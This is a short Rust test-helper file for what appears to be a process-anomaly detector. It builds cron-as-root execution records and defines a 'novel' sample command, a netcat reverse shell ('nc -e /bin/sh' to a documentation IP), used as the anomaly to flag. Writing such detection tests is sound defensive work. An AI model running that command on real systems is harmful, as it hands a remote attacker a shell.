//! Executions as a person would type them.

use anomaly_vectorizer::Execution;
use anomaly_vectorizer::canonical::Raw;
use anomaly_vectorizer::scrub::Scrubber;

/// What no host of these tests has ever run.
pub(crate) const NOVEL: &str = "nc -e /bin/sh 203.0.113.7 4444";

/// A command line, parted at its blanks, that cron runs as root.
pub(crate) fn execution(line: &str) -> Execution {
    let (name, area) = (line.split(' ').next().unwrap_or_default(), line.replace(' ', "\0") + "\0");
    let (name, arguments) = (name.as_bytes(), area.as_bytes());
    Raw { name, parent: b"cron", grandparent: b"systemd", arguments, ..Raw::default() }
        .execution(&Scrubber::default())
}
